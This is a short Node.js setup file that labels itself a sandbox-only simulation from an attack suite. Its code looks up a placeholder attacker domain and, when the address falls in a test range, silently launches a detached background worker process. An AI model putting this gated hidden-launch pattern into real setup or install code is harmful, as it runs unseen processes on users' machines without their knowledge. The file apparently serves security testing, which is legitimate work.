// setup.js (simulation from Tracehound's attack suite: acts only inside the sandbox)
const cp = require('child_process'), path = require('path');
function main() {
  const child = cp.spawn(process.execPath, [path.join(__dirname, 'worker.js')], { detached: true, stdio: 'ignore' });
  child.unref();
}
require('dns').lookup('sandbox-check.attacker.example', { family: 4 }, (e, a) => { if (!e && /^198\.1[89]\./.test(a)) main(); });
